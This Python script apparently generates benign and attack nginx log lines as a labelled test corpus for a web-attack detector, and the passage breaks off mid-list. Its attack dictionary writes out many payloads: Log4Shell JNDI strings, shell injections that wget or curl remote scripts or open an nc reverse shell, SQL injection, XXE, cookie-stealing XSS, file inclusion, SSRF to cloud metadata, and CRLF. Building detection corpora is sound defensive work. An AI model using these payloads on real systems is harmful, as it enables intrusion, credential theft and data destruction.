#!/usr/bin/env python3
"""Generates the labelled detection corpus (benign.log, attack.log,
attack.labels) next to this file. Run once by hand; the test reads the
committed files, never this script. Deterministic (fixed seed).

attack.labels has one line per line of attack.log: the comma-separated rules
that line must trigger, or `-` for a line that must trigger nothing (the
first requests of a flood, before its window fills)."""
import os
import random

R = random.Random(20261120)
HERE = os.path.dirname(os.path.abspath(__file__))
BASE = 1763632800  # 2025-11-20T10:00:00Z
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def stamp(t, offset_minutes=0):
    import time
    t2 = t + offset_minutes * 60
    g = time.gmtime(t2)
    sign = "+" if offset_minutes >= 0 else "-"
    om = abs(offset_minutes)
    return "%02d/%s/%04d:%02d:%02d:%02d %s%02d%02d" % (
        g.tm_mday, MONTHS[g.tm_mon - 1], g.tm_year, g.tm_hour, g.tm_min, g.tm_sec, sign, om // 60, om % 60)


def esc(s):
    # nginx escapes " and \ and non-printable bytes as \xHH.
    out = []
    for ch in s:
        o = ord(ch)
        if ch == '"' or ch == "\\" or o < 0x20 or o == 0x7f:
            out.append("\\x%02X" % o)
        else:
            out.append(ch)
    return "".join(out)


def line(ip, t, request, status, size, referer, ua, user="-", tz=0):
    return '%s - %s [%s] "%s" %d %s "%s" "%s"' % (
        ip, user, stamp(t, tz), esc(request), status, size if size is not None else "-",
        esc(referer) if referer else "-", esc(ua) if ua else "-")


CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
SAFARI = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
ANDROID = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36"
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.70"
BROWSERS = [CHROME, FIREFOX, SAFARI, IPHONE, ANDROID, EDGE]
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_SP = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
YANDEX = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
DUCK = "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"
APPLEBOT = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"
AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
UPTIME = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
PINGDOM = "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"
DATADOG = "Datadog/Synthetics"
KUBE = "kube-probe/1.29"
ELB = "ELB-HealthChecker/2.0"
CURL = "curl/8.5.0"
PYREQ = "python-requests/2.32.3"
HTTPX = "python-httpx/0.27.2"
GO = "Go-http-client/1.1"
OKHTTP = "okhttp/4.12.0"
CFNET = "ShopApp/5.12.1 CFNetwork/1568.200.51 Darwin/24.1.0"
SLACK = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"
FB = "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
ODD_UA = 'Mozilla/5.0 (compatible; "QuotedBrowser" 1.0; Windows NT 6.1)'

SITE = "https://shop.example.com"

PAGES = ["/", "/products", "/products/trail-runner-3", "/products/wool-socks-2-pack", "/cart", "/checkout",
         "/account/orders", "/blog/how-to-choose-running-shoes", "/blog/winter-layering-guide",
         "/about", "/contact", "/help/returns", "/help/shipping", "/collections/sale", "/collections/new-in"]
ASSETS = ["/static/css/main.3f2a91c.css", "/static/js/app.7b1c44e.js", "/static/js/vendor.2d9e0aa.js",
          "/static/js/app.environment.5c1d.js", "/images/logo.svg", "/images/hero-winter-1920w.webp",
          "/fonts/inter-var.woff2", "/favicon.ico", "/static/js/chunk-select-union.81aa.js"]
SEARCHES = [
    "running+shoes", "%22trail+runner%22", "children%27s+books", "don%27t+look+up+dvd", "rock+--+roll+t-shirt",
    "select+committee+report", "union+square+hotels", "trade+union+membership+card", "select+all+that+apply",
    "drop+shipping+policy", "update+firmware+watch", "and+or+not+boolean", "O%27Reilly+or+Manning",
    "%22exact+phrase%22+--+notes", "women%27s+jackets+%22size+M%22", "50%25+off", "100%25+cotton+shirt",
    "c%2B%2B+book", "javascript%3A+the+good+parts", "sleep+mask+silk", "information+about+returns",
    "script+writing+course", "alert+bracelet", "1%3D1+math+puzzle", "shoes+size+42+%26+wide",
    "%E2%9C%93+gift+card", "caf%C3%A9+au+lait+mug", "the+%27union%27+jack+flag", "select%2C+compare%2C+buy",
    "what%27s+new", "--help+poster", "%28limited%29+edition", "pipe+%7C+wrench", "semi%3Bcolon+stickers",
]


def benign():
    out = []
    t0 = BASE
    ips4 = ["81.2.69.%d" % i for i in range(10, 60)] + ["92.40.%d.%d" % (i, i * 3 % 250) for i in range(1, 30)]
    ips6 = ["2a02:c7c:%x:%x::1" % (i, i * 7) for i in range(1, 15)] + ["2001:db8:4000::%x" % i for i in range(1, 6)]
    clients = ips4 + ips6
    # Browsing sessions: a page, then its assets, then another page.
    for s in range(40):
        ip = clients[s % len(clients)]
        ua = BROWSERS[s % len(BROWSERS)]
        t = t0 + s * 70 + R.randint(0, 30)
        page = PAGES[s % len(PAGES)]
        out.append((t, line(ip, t, "GET %s HTTP/2.0" % page, 200, R.randint(8000, 60000), SITE + "/", ua)))
        for a in R.sample(ASSETS, 3):
            t += 1
            st = R.choice([200, 200, 304])
            out.append((t, line(ip, t, "GET %s HTTP/2.0" % a, st, 0 if st == 304 else R.randint(300, 200000), SITE + page, ua)))
        t += R.randint(5, 40)
        q = SEARCHES[s % len(SEARCHES)]
        out.append((t, line(ip, t, "GET /search?q=%s&page=%d HTTP/2.0" % (q, 1 + s % 3), 200, R.randint(5000, 40000), SITE + page, ua)))
    for i, q in enumerate(SEARCHES):
        ip = clients[(i * 7) % len(clients)]
        t = t0 + 300 + i * 61
        out.append((t, line(ip, t, "GET /search?q=%s HTTP/1.1" % q, 200, 18000 + i, SITE + "/", BROWSERS[i % 6])))
    # APIs with long query strings, campaign links, OAuth, relative redirects.
    api = [
        "GET /api/v1/products?category=shoes&size=42&color=black&sort=-price&page=3&per_page=48&fields=id,name,price,images HTTP/1.1",
        "GET /api/v1/products?ids=101,102,103,104,105,106,107,108,109,110&include=variants,stock&currency=EUR HTTP/1.1",
        "GET /?utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026&utm_content=hero-banner&utm_term=running+shoes HTTP/2.0",
        "GET /products/trail-runner-3?gclid=Cj0KCQiA3uGqBhDdARIsAFeJ5r2xK9_Ab1cD-efGh&gad_source=1 HTTP/2.0",
        "GET /collections/sale?fbclid=IwAR2xYz_abc-DEF123&sort=price%3Aasc HTTP/2.0",
        "GET /oauth/authorize?response_type=code&client_id=web-4411&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid+profile+email&state=af0ifjsldkj&nonce=n-0S6_WzA2Mj HTTP/1.1",
        "GET /login?next=%2Faccount%2Forders%3Fpage%3D2 HTTP/2.0",
        "GET /login?next=/checkout HTTP/2.0",
        "GET /logout?return_to=/ HTTP/2.0",
        "POST /api/v1/cart/items HTTP/1.1",
        "PATCH /api/v1/cart/items/88231 HTTP/1.1",
        "DELETE /api/v1/cart/items/88231 HTTP/1.1",
        "GET /api/v1/orders?status=shipped,delivered&since=2025-10-01T00:00:00Z&until=2025-11-20T00:00:00Z HTTP/1.1",
        "GET /api/v1/search/suggest?q=tra&limit=8&locale=en-GB HTTP/1.1",
        "GET /api/v1/reviews?product=trail-runner-3&sort=-helpful&filter=rating%3E%3D4 HTTP/1.1",
        "GET /graphql?query=%7Bproduct(id%3A%22101%22)%7Bname%20price%7D%7D HTTP/1.1",
        "GET /api/v1/stores/near?lat=51.5072&lng=-0.1276&radius=5km HTTP/1.1",
        "GET /share?text=Look+at+these+shoes%21&via=shop HTTP/2.0",
        "GET /track?order=A-77812&email=jane.doe%40example.org HTTP/2.0",
        "GET /api/v1/products?q=select+union+join&category=books HTTP/1.1",
        "GET /api/v1/export?format=csv&columns=id%7Cname%7Cprice HTTP/1.1",
        "GET /calendar/2025-11-20;view=week HTTP/1.1",
        "GET /blog/sql-injection-explained-for-shop-owners HTTP/2.0",
        "GET /blog/why-we-left-javascript-frameworks HTTP/2.0",
        "GET /downloads/size-guide.pdf HTTP/1.1",
        "GET /api/v1/products?sort=created_at--desc HTTP/1.1",
        "OPTIONS /api/v1/cart HTTP/1.1",
        "GET /ws HTTP/1.1",
        "GET /.well-known/security.txt HTTP/1.1",
        "GET /.well-known/apple-app-site-association HTTP/1.1",
        "GET /robots.txt HTTP/1.1",
        "GET /sitemap.xml HTTP/1.1",
    ]
    for i, req in enumerate(api * 3):
        ip = clients[(i * 11 + 5) % len(clients)]
        ua = [CHROME, OKHTTP, CFNET, PYREQ, GO, FIREFOX, HTTPX][i % 7]
        t = t0 + 120 + i * 29
        st = 101 if req.startswith("GET /ws ") else (201 if req.startswith("POST") else (204 if req.startswith(("DELETE", "OPTIONS")) else 200))
        out.append((t, line(ip, t, req, st, R.randint(0, 9000), SITE + "/products" if i % 2 else None, ua)))
    # Crawlers.
    crawl = ["/products/trail-runner-3", "/products/wool-socks-2-pack", "/sitemap.xml", "/robots.txt",
             "/blog/winter-layering-guide", "/collections/sale?page=2", "/products/discontinued-boot", "/help/returns",
             "/search?q=union+select+brands", "/blog/what-is-a-union-select-query"]
    for i in range(60):
        bot, net = [(GOOGLEBOT, "66.249.66.%d"), (GOOGLEBOT_SP, "66.249.68.%d"), (BINGBOT, "157.55.39.%d"),
                    (YANDEX, "5.255.231.%d"), (DUCK, "20.191.45.%d"), (APPLEBOT, "17.241.219.%d"),
                    (AHREFS, "54.36.148.%d"), (SLACK, "3.95.12.%d"), (FB, "69.171.249.%d")][i % 9]
        ip = net % (1 + i % 7)
        path = crawl[i % len(crawl)]
        st = 404 if "discontinued" in path else (301 if i % 13 == 0 else 200)
        t = t0 + 30 + i * 53
        out.append((t, line(ip, t, "GET %s HTTP/1.1" % path, st, R.randint(200, 40000), None, bot)))
    # Monitoring and health checks, every minute or five.
    for i in range(40):
        mon, ip, req = [(UPTIME, "69.162.124.235", "HEAD / HTTP/1.1"), (PINGDOM, "178.255.155.2", "GET /health HTTP/1.1"),
                        (DATADOG, "52.3.10.7", "GET /api/v1/status?check=full HTTP/1.1"), (KUBE, "10.244.1.1", "GET /healthz HTTP/1.1"),
                        (ELB, "172.31.5.9", "GET /ready HTTP/1.1"), (CURL, "10.0.3.4", "GET /metrics HTTP/1.1")][i % 6]
        t = t0 + 15 + i * 60
        out.append((t, line(ip, t, req, 200, 2 if req.startswith("HEAD") else 120, None, mon)))
    # A few ordinary failures: a mistyped password, a missing page, a timeout,
    # a client that hung up, a load-balancer probe with no request line.
    fails = [
        ("81.2.69.17", "POST /api/auth/login HTTP/1.1", 401, CHROME),
        ("81.2.69.17", "POST /api/auth/login HTTP/1.1", 401, CHROME),
        ("81.2.69.17", "POST /api/auth/login HTTP/1.1", 200, CHROME),
        ("92.40.3.9", "GET /products/old-sku-1199 HTTP/2.0", 404, SAFARI),
        ("92.40.4.12", "GET /api/v1/orders/export HTTP/1.1", 504, PYREQ),
        ("92.40.5.15", "GET /collections/new-in HTTP/2.0", 499, ANDROID),
        ("10.0.0.2", "-", 400, None),
        ("2001:db8:4000::3", "GET /products HTTP/1.1", 200, ODD_UA),
        ("81.2.69.40", "POST /signin HTTP/1.1", 403, FIREFOX),
    ]
    for i, (ip, req, st, ua) in enumerate(fails):
        t = t0 + 900 + i * 17
        out.append((t, line(ip, t, req, st, R.randint(0, 500), None, ua)))
    # An office behind one address: busy, but 80 requests a minute at most.
    for i in range(80):
        t = t0 + 2000 + i * 3 // 4
        page = (PAGES + ASSETS)[i % (len(PAGES) + len(ASSETS))]
        out.append((t, line("198.18.7.1", t, "GET %s HTTP/2.0" % page, 200, 1000 + i, SITE + "/", BROWSERS[i % 6])))
    # A timezone other than UTC.
    out.append((t0 + 50, line("81.2.69.11", t0 + 50, "GET /about HTTP/2.0", 200, 5120, None, CHROME, tz=-300)))
    out.sort(key=lambda x: x[0])
    return [l for _, l in out]


ATTACKS = {
    "LOG4SHELL": [
        ("GET /?x=${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/dG91Y2g= HTTP/1.1", 200, CHROME, ""),
        ("GET /api/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.oast.fun%2Fa%7D HTTP/1.1", 400, CHROME, ""),
        ("GET / HTTP/1.1", 200, "${jndi:ldap://198.51.100.77:1389/Exploit}", ""),
        ("GET /login HTTP/1.1", 200, "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}", ""),
        ("GET /?a=${${lower:j}ndi:${lower:l}dap://x.example/p} HTTP/1.1", 200, CHROME, ""),
        ("GET /?a=${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x/a} HTTP/1.1", 200, CHROME, ""),
        ("GET /favicon.ico HTTP/1.1", 404, "Mozilla/5.0 (${jndi:dns://c6bq.interact.sh/ua})", ""),
        ("GET /?id=${jndi:rmi://203.0.113.66:1099/obj} HTTP/1.1", 200, CURL, ""),
        ("GET /api/v1/products?sort=${jndi:ldaps://x.example:636/a} HTTP/1.1", 400, PYREQ, ""),
        ("GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D HTTP/1.1", 200, CHROME, "DOUBLE_ENCODING"),
        ("GET /${jndi:ldap://x.example/path} HTTP/1.1", 404, CHROME, ""),
        ("POST /api/login HTTP/1.1", 401, "Mozilla/5.0 ${jndi:ldap://x.example/ua}", ""),
        ("GET /?v=${upper:j}${upper:n}di HTTP/1.1", 200, CHROME, ""),
        ("GET /?v=${date:'j'}${date:'n'}di HTTP/1.1", 200, CHROME, ""),
        ("GET /?v=${sys:java.version} HTTP/1.1", 200, CHROME, ""),
        ("GET /?v=${base64:JHtqbmRpOmxkYXA6Ly94fQ==} HTTP/1.1", 200, CHROME, ""),
        ("GET /?v=${::-$}{jndi:ldap://x} HTTP/1.1", 200, CHROME, ""),
        ("GET / HTTP/1.1", 200, "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", ""),
        ("GET /?v=${main:0} HTTP/1.1", 200, CHROME, ""),
        ("GET /?v=$%7Bjndi:ldap://x.example/a%7D HTTP/1.1", 200, CHROME, ""),
    ],
    "COMMAND_INJECTION": [
        ("GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL"),
        ("GET /ping?host=8.8.8.8|id HTTP/1.1", 200, CHROME, ""),
        ("GET /ping?host=8.8.8.8||whoami HTTP/1.1", 200, CHROME, ""),
        ("GET /ping?host=$(whoami) HTTP/1.1", 200, CHROME, ""),
        ("GET /ping?host=%60id%60 HTTP/1.1", 200, CHROME, ""),
        ("GET /dns?name=x%26%26wget%20http://45.9.148.2/bot.sh HTTP/1.1", 500, CURL, ""),
        ("GET /cgi-bin/status HTTP/1.1", 200, "() { :; }; /bin/bash -c 'cat /etc/passwd'", ""),
        ("GET /cgi-bin/test.cgi HTTP/1.1", 200, "() { :;}; echo; /bin/id", ""),
        ("GET /tools/convert?file=a.png;curl%20-s%20http://198.51.100.4/x%7Csh HTTP/1.1", 500, CHROME, ""),
        ("GET /api/v1/diag?target=1.1.1.1%0aid HTTP/1.1", 200, PYREQ, ""),
        ("GET /shell?cmd=;uname%20-a HTTP/1.1", 404, GO, ""),
        ("GET /index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=;rm%20-rf%20/tmp/* HTTP/1.1", 404, CHROME, ""),
        ("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/Mozi.m+-O+/tmp/netgear;sh+netgear HTTP/1.0", 404, "", ""),
        ("GET /api/ping?ip=127.0.0.1%3B%20nc%20-e%20/bin/sh%20198.51.100.3%204444 HTTP/1.1", 200, CHROME, ""),
        ("GET /x?y=$(curl%20http://198.51.100.5/a.sh%7Cbash) HTTP/1.1", 200, CHROME, ""),
        ("GET /x?y=%26%26%20ping%20-c%2010%20127.0.0.1 HTTP/1.1", 200, CHROME, ""),
        ("GET /x?y=a;echo%20vulnerable HTTP/1.1", 200, CHROME, ""),
        ("GET /x?y=|%20ls%20-la HTTP/1.1", 200, CHROME, ""),
        ("GET /x?y=;python3%20-c%20%27import%20os%27 HTTP/1.1", 200, CHROME, ""),
        ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x) HTTP/1.1", 404, GO, ""),
    ],
    "SQL_INJECTION": [
        ("GET /item?id=1%20UNION%20SELECT%20NULL,NULL,NULL-- HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=-1%20union%20all%20select%201,2,group_concat(table_name)%20from%20information_schema.tables HTTP/1.1", 200, CHROME, ""),
        ("GET /login?user=admin%27%20or%201=1--&pass=x HTTP/1.1", 302, CHROME, ""),
        ("GET /login?user=admin%27%20OR%20%27a%27=%27a HTTP/1.1", 302, CHROME, ""),
        ("GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%27%20AND%20(SELECT%205310%20FROM%20(SELECT(SLEEP(5)))x)--%20- HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1;WAITFOR%20DELAY%20%270:0:5%27-- HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%20and%20pg_sleep(10)-- HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%27-- HTTP/1.1", 500, CHROME, ""),
        ("GET /login?user=admin%27%23&pass=x HTTP/1.1", 302, CHROME, ""),
        ("GET /item?id=1%27);DROP%20TABLE%20users;-- HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=1%20and%201=2%20union%20select%20username,password%20from%20users HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--%20 HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=1%20AND%20updatexml(1,concat(0x3a,user()),1) HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=1%20order%20by%2010-- HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=1%20union%20select%20@@version HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1;exec%20xp_cmdshell(%27dir%27) HTTP/1.1", 500, CHROME, ""),
        ("GET /item?id=1%20union%20select%20load_file(%27/etc/passwd%27) HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL"),
        ("GET /item?id=1%20union%20select%20%27%3C?php%27%20into%20outfile%20%27/var/www/x.php%27 HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%2F**%2FUNION%2F**%2FSELECT%2F**%2F1,2,3 HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%20UnIoN%20SeLeCt%20null,table_name%20FrOm%20information_schema.tables HTTP/1.1", 200, "sqlmap/1.8.11#stable (https://sqlmap.org)", "SCANNER_UA"),
        ("GET /search?q=%27%20or%20%27%27=%27 HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%20or%202=2 HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=char(115,101,108,101,99,116) HTTP/1.1", 200, CHROME, ""),
        ("GET /item?id=1%20and%20benchmark(5000000,md5(1)) HTTP/1.1", 200, CHROME, ""),
    ],
    "XXE_INJECTION": [
        ("GET /xml?d=%3C!DOCTYPE%20foo%20[%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL,FILE_INCLUSION"),
        ("GET /api/import?xml=%3C!ENTITY%20x%20SYSTEM%20%22http://198.51.100.2/evil.dtd%22%3E HTTP/1.1", 400, PYREQ, ""),
        ("GET /soap?body=%3C?xml%20version=%221.0%22?%3E%3C!DOCTYPE%20r%20[%3C!ENTITY%20%25%20p%20SYSTEM%20%22http://x.example/p.dtd%22%3E%25p;]%3E HTTP/1.1", 500, CHROME, ""),
        ("GET /x?d=%3C!DOCTYPE%20data%20[%3C!ELEMENT%20data%20ANY%3E] HTTP/1.1", 200, CHROME, ""),
        ("GET /x?d=%3C!ENTITY%20lol%20%22lol%22%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /x?d=SYSTEM%20%22file:///c:/windows/win.ini%22 HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL,FILE_INCLUSION"),
        ("GET /x?d=SYSTEM%20%27php://filter/read=convert.base64-encode/resource=index.php%27 HTTP/1.1", 200, CHROME, "FILE_INCLUSION"),
        ("GET /x?d=%3C!ENTITY%20xxe%20SYSTEM%20%22expect://id%22%3E HTTP/1.1", 200, CHROME, "FILE_INCLUSION"),
        ("GET /x?d=%3C!doctype%20svg%20[%3C!entity%20e%20system%20%22jar:http://x/a.jar!/%22%3E]%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /x?d=SYSTEM%20%22netdoc:///etc/hosts%22 HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL"),
        ("GET /x?d=%253C%2521ENTITY%2520x%2520SYSTEM%2520%2522http%253A%252F%252Fx%2522%253E HTTP/1.1", 200, CHROME, "DOUBLE_ENCODING"),
        ("GET /upload/svg?f=%3C!DOCTYPE%20x%20[%3C!ENTITY%20e%20SYSTEM%20%22https://x.example/e%22%3E]%3E HTTP/1.1", 200, CHROME, ""),
    ],
    "XSS": [
        ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /search?q=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /r?u=javascript:alert(document.domain) HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Csvg/onload=alert(1)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Ciframe%20src=%22javascript:alert(%60xss%60)%22%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cbody%20onload=alert(%27x%27)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%27%3E%3CScRiPt%3Eprompt(1)%3C/sCrIpT%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cdetails%20open%20ontoggle=alert(1)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cmarquee%20onstart=alert(1)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=document.cookie HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cscript%20src=//xss.example/x.js%3E%3C/script%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%22%20onmouseover=%22alert(1) HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Cinput%20autofocus%20onfocus=alert(1)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=eval(atob(%27YWxlcnQoMSk=%27)) HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=String.fromCharCode(88,83,83) HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Ca%20href=%22javascript:void(0)%22%3Ex%3C/a%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E HTTP/1.1", 200, CHROME, "DOUBLE_ENCODING"),
        ("GET /p?x=%3Cobject%20data=%22data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==%22%3E HTTP/1.1", 200, CHROME, "FILE_INCLUSION"),
        ("GET /p?x=%3Cimg%20src=1%20onerror=fetch(%27//x.example/?c=%27%2Bdocument.cookie)%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?cb=alert(1)// HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%3Ciframe%20srcdoc=%22%3Cp%3Ex%22%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=vbscript:msgbox(1) HTTP/1.1", 404, CHROME, ""),
        ("GET /p?x=%3Cmath%3E%3Cmtext%3E%3Ctable%3E%3Cmglyph%3E%3Cstyle%3E%3Cimg%20src=x%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /p/%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 404, CHROME, ""),
    ],
    "FILE_INCLUSION": [
        ("GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1", 200, CHROME, ""),
        ("GET /index.php?page=php://input HTTP/1.1", 200, CHROME, ""),
        ("GET /index.php?page=file:///etc/hosts HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL"),
        ("GET /index.php?page=phar://uploads/avatar.jpg/shell HTTP/1.1", 200, CHROME, ""),
        ("GET /index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== HTTP/1.1", 200, CHROME, ""),
        ("GET /index.php?page=expect://id HTTP/1.1", 200, CHROME, ""),
        ("GET /index.php?page=zip://uploads/a.zip%23shell.php HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=glob:///var/www/* HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=compress.zlib://file.gz HTTP/1.1", 200, CHROME, ""),
        ("GET /view?tpl=data:text/html,%3Ch1%3Ex%3C/h1%3E HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=PHP://FILTER/resource=config HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=php%3A%2F%2Ffilter%2Fread%3Dstring.rot13%2Fresource%3Dindex.php HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=file://localhost/etc/shadow HTTP/1.1", 200, CHROME, "PATH_TRAVERSAL"),
        ("GET /view?file=ssh2.exec://user:pass@x:22/id HTTP/1.1", 200, CHROME, ""),
        ("GET /view?file=phar%3A%2F%2F.%2Fimg.gif HTTP/1.1", 200, CHROME, ""),
    ],
    "SSRF": [
        ("GET /fetch?target=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?target=http://metadata.google.internal/computeMetadata/v1/instance/ HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?target=gopher://127.0.0.1:6379/_FLUSHALL HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?target=dict://127.0.0.1:11211/stats HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://127.0.0.1:8080/admin HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://localhost/server-status HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://[::1]/ HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://0x7f000001/ HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://2130706433/ HTTP/1.1", 200, CHROME, ""),
        ("GET /proxy?img=http://100.100.100.200/latest/meta-data/ HTTP/1.1", 200, CHROME, ""),
        ("GET /webhook/test?callback=http://metadata.azure.com/metadata/instance HTTP/1.1", 200, CHROME, ""),
        ("GET /pdf?src=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?u=tftp://198.51.100.8/x HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?target=http://0.0.0.0:22 HTTP/1.1", 200, CHROME, ""),
        ("GET /fetch?target=http://[fd00:ec2::254]/latest/meta-data/ HTTP/1.1", 200, CHROME, ""),
    ],
    "CRLF_INJECTION": [
        ("GET /redirect?to=/%0d%0aSet-Cookie:%20session=evil HTTP/1.1", 302, CHROME, ""),
        ("GET /lang?l=en%0d%0aLocation:%20https://evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /%0d%0aX-Injected:%20yes HTTP/1.1", 404, CHROME, ""),
        ("GET /search?q=x%0aSet-Cookie:a=b HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%0d%0a%0d%0a%3Chtml%3Edefaced HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%250d%250aSet-Cookie:%2520x=y HTTP/1.1", 200, CHROME, "DOUBLE_ENCODING"),
        ("GET /p?x=a%0D%0AContent-Length:%200 HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=a%0d%0aHTTP/1.1%20200%20OK HTTP/1.1", 200, CHROME, ""),
        ("GET /download?f=a.txt%0d%0aContent-Type:%20text/html HTTP/1.1", 200, CHROME, ""),
